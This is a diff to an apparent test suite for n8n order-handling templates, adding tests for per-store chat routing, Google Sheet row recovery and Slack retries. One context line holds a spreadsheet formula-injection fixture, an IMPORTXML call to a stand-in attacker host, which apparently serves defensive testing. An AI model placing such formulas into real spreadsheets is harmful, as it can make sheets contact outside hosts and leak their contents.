@@ -6,6 +6,7 @@ import { useInstance } from './instance';
 import { useTemplates, withParameters } from './templates';
 
 const PODIL = -1001000000003;
+const UNKNOWN_CHAT = -1001000000099;
 const FORMULA = '=IMPORTXML("http://evil.example.test") <b>';
 
 onEachHost((host) => {
@@ -42,6 +43,71 @@ onEachHost((host) => {
 		const { order } = given.sandbox.placeOrder({ storeId: 'podil' });
 		await publish(template('one-chat-per-store'));
 		await chat.message(order.number, KITCHEN);
+	});
+
+	test('One chat per store: without a chat, or with a wrong one, orders go to the default', async () => {
+		sheets.tabs.set('Stores', [
+			['Store ID', 'Chat ID'],
+			['podil', ''],
+			['obolon', UNKNOWN_CHAT],
+		]);
+		const orders = ['podil', 'obolon'].map(
+			(storeId) => given.sandbox.placeOrder({ storeId }).order,
+		);
+		await publish(template('one-chat-per-store'));
+		for (const { id, number } of orders) {
+			const { reply_markup } = await chat.message(number, KITCHEN);
+			expect(reply_markup?.inline_keyboard.flat()).toContainEqual({
+				text: '20 min',
+				callback_data: `order:20:${id}`,
+			});
+		}
+	});
+
+	test('One chat per store: a number is the ID of a store too', async () => {
+		const draft = template('one-chat-per-store');
+		sheets.tabs.set('Stores', [
+			['Store ID', 'Chat ID'],
+			[12, PODIL],
+		]);
+		const { order } = given.sandbox.placeOrder({ storeId: 'podil' });
+		const asNumber = {
+			id: 'number',
+			name: 'Number',
+			type: 'n8n-nodes-base.set',
+			typeVersion: 3.4,
+			position: [0, 0] as [number, number],
+			parameters: {
+				includeOtherFields: true,
+				assignments: {
+					assignments: [{ id: '1', name: 'storeId', value: '12', type: 'string' }],
+				},
+			},
+		};
+		await publish({
+			...draft,
+			nodes: [...draft.nodes, asNumber],
+			connections: {
+				...draft.connections,
+				[trigger]: { main: [[{ node: 'Number', type: 'main', index: 0 }]] },
+				Number: draft.connections[trigger],
+			},
+		});
+		await chat.message(order.number, PODIL);
+	});
+
+	test('Orders in a Google sheet: a row that was deleted comes back with the next change', async () => {
+		sheets.tabs.set('Orders', []).set('Dishes', []);
+		const { order } = given.sandbox.placeOrder();
+		const { id } = await given.api.createWorkflow(template('orders-in-a-google-sheet'));
+		await given.api.run(id, trigger);
+		sheets.tabs.get('Orders')?.pop();
+		expect(sheets.rows('Orders')).toEqual([]);
+		await changeStatus(order.id, 'preparation');
+		await given.api.run(id, trigger);
+		expect(sheets.rows('Orders')).toMatchObject([
+			{ 'Order ID': order.id, Status: 'In Preparation' },
+		]);
 	});
 
 	test('Orders in a Google sheet: a row follows its order, and each dish has one', async () => {
@@ -108,6 +174,14 @@ onEachHost((host) => {
 			status: 'preparation',
 			estimatedCookingTime: 30,
 		});
+	});
+
+	test('Order to Slack: an order is posted again after Slack had too many requests', async () => {
+		await publish(template('order-to-slack'));
+		slack.refusals = 1;
+		const { order } = given.sandbox.placeOrder();
+		await said(order.number);
+		expect(slack.refusals).toBe(0);
 	});
 
 	test('Order to Slack: an answer that comes too late changes nothing', async () => {
